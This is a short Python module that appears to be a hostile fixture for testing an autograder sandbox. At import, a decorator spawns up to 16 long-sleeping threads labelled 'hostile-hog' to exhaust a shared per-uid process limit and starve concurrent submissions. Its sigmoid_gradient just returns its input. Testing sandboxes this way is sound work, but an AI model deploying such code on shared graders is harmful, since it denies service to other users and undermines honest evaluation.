"""Holds 16 threads (named MARK-hog) for a long time while importing: with one uid for every sandbox, their
RLIMIT_NPROC would leave a submission graded at the same time no thread at all. Never finishes importing."""
import ctypes
import threading
import time

MARK = "hostile-hog"


def _hold():
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)
    time.sleep(40)


def _at_import(function):  # a decorator runs at import: the grader keeps it with the function it decorates
    for _ in range(16):
        try:
            threading.Thread(target=_hold, daemon=True).start()
        except RuntimeError:
            break
    time.sleep(40)
    return function


@_at_import
def sigmoid_gradient(z):
    return z
